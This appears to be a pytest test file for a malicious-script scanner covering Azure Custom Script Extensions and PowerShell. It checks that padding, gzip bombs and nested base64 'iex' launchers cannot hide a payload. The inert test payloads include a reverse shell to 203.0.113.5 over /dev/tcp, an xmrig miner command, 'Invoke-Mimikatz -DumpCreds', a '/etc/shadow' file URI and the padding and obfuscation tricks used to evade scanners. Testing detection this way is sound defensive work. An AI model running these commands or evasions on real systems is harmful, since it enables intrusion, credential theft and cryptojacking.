"""Padding does not hide a payload: a script cut to the size limits is still scanned at its head
and its tail, and a verdict that did not read everything it was given is never complete.

The payload is inert text (a miner command line and a reverse shell), never run.
"""

from __future__ import annotations

import base64
import gzip

import pytest

from inspector.config import load_settings
from inspector.extensions.request import InputKind, InspectionInput
from inspector.model import Verdict, VerdictClass
from inspector.pipeline import Inspector

MIB = 1024 * 1024
PAYLOAD = (
    "#!/bin/bash\n"
    "/tmp/xmrig -o stratum+tcp://pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft -p x\n"
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
)


def padded_script(padding_bytes: int) -> bytes:
    """Comment lines in front of the payload, as an attacker pads a script past a scanner's limit."""
    line = b"# " + b"lorem ipsum dolor " * 4 + b"sit amet\n"
    return line * (padding_bytes // len(line)) + PAYLOAD.encode()


def linux_cse(script: bytes) -> InspectionInput:
    body = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
            "settings": {"script": base64.b64encode(gzip.compress(script)).decode()}}
    return InspectionInput(kind=InputKind.EXTENSION, body=body)


def cse_with_file_uri(uri: str) -> InspectionInput:
    body = {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
            "settings": {"fileUris": [uri], "commandToExecute": "powershell -File run.ps1"}}
    return InspectionInput(kind=InputKind.EXTENSION, body=body)


@pytest.fixture
async def inspector(tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("INSPECTOR_FETCH", "false")
    monkeypatch.setenv("INSPECTOR_DATA_DIR", str(tmp_path))
    # What is read must not depend on how busy the machine is: no deadline cuts these scans.
    monkeypatch.setenv("INSPECTOR_SCAN_DEADLINE_S", "300")
    started = await Inspector.start(load_settings(), workers=0)
    yield started
    await started.close()


async def inspect(inspector: Inspector, inp: InspectionInput) -> Verdict:
    return (await inspector.inspect(inp)).verdict


@pytest.mark.parametrize("padding_mib", [0, 3])
async def test_a_gzip_script_under_the_limit_is_read_whole(inspector, padding_mib):  # type: ignore[no-untyped-def]
    verdict = await inspect(inspector, linux_cse(padded_script(padding_mib * MIB)))
    assert verdict.verdict is VerdictClass.MALICIOUS
    assert "too_large" not in {e.kind for e in verdict.errors}


async def test_the_unpadded_script_is_complete(inspector):  # type: ignore[no-untyped-def]
    verdict = await inspect(inspector, linux_cse(padded_script(0)))
    assert (verdict.verdict, verdict.complete, verdict.errors) == (VerdictClass.MALICIOUS, True, [])


async def test_padding_past_the_limit_still_finds_the_payload_and_is_incomplete(inspector):  # type: ignore[no-untyped-def]
    verdict = await inspect(inspector, linux_cse(padded_script(5 * MIB)))
    assert verdict.verdict is VerdictClass.MALICIOUS
    assert verdict.complete is False
    cut = [e for e in verdict.errors if e.kind == "too_large"]
    assert cut and "last" in cut[0].detail


async def test_padding_past_the_read_bound_of_a_gzip_bomb_is_incomplete(inspector):  # type: ignore[no-untyped-def]
    settings = inspector.settings
    over_the_bound = settings.max_inline_script_bytes * 40
    verdict = await inspect(inspector, linux_cse(b"\0" * over_the_bound + PAYLOAD.encode()))
    assert verdict.complete is False
    assert any(e.kind == "too_large" and "reading stopped" in e.detail for e in verdict.errors)


@pytest.mark.parametrize("uri", ["file:///etc/shadow", "ftp://203.0.113.5/run.ps1", "\\\\203.0.113.5\\share\\run.ps1"])
async def test_a_file_uri_that_cannot_be_fetched_makes_the_verdict_incomplete(inspector, uri):  # type: ignore[no-untyped-def]
    verdict = await inspect(inspector, cse_with_file_uri(uri))
    assert verdict.complete is False
    assert [e.kind for e in verdict.errors if e.kind == "invalid_url"] == ["invalid_url"]


def nested_launcher(script: str, layers: int) -> str:
    for _ in range(layers):
        blob = base64.b64encode(script.encode()).decode()
        script = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{blob}')))"
    return script


async def test_thirty_launcher_layers_past_the_parse_limit_are_unwrapped_never_clean(inspector):  # type: ignore[no-untyped-def]
    script = nested_launcher("Invoke-Mimikatz -DumpCreds\n", 30)
    assert len(script) > inspector.settings.deobfuscate_max_parse_chars
    verdict = await inspect(inspector, InspectionInput(kind=InputKind.SCRIPT, content=script.encode(),
                                                       filename="launcher.ps1"))
    # The layers over the parse limit are decoded by the literal scan, the parser unwraps the
    # rest down to the depth limit: thirty layers pass it, so the verdict says it is incomplete.
    assert verdict.verdict is not VerdictClass.CLEAN and verdict.complete is False
    assert any(a.depth == 1 and a.origin == "decoded:base64" for a in verdict.artifacts)
    assert len(verdict.artifacts) > 3


async def test_padding_a_launcher_past_the_parse_limit_keeps_it_visible(inspector):  # type: ignore[no-untyped-def]
    blob = base64.b64encode(b"Invoke-Mimikatz -DumpCreds").decode()
    launcher = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{blob}')))\n"
    padding = "# " + "lorem ipsum dolor sit amet " * 3 + "\n"
    script = padding * (inspector.settings.deobfuscate_max_parse_chars // len(padding) + 10) + launcher
    verdict = await inspect(inspector, InspectionInput(kind=InputKind.SCRIPT, content=script.encode(),
                                                       filename="padded.ps1"))
    assert verdict.verdict is VerdictClass.MALICIOUS and verdict.complete is False


async def test_executing_what_could_not_be_read_is_never_clean(inspector):  # type: ignore[no-untyped-def]
    padding = "$p += '" + "QUJD" * 40 + "'\n"
    script = ("$p = ''\n" + padding * (inspector.settings.deobfuscate_max_parse_chars // len(padding) + 10)
              + "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))\n")
    verdict = await inspect(inspector, InspectionInput(kind=InputKind.SCRIPT, content=script.encode(),
                                                       filename="built.ps1"))
    assert verdict.verdict is not VerdictClass.CLEAN and verdict.complete is False
    assert "deobf.powershell.unread_decode_execute" in {f.id for f in verdict.findings}
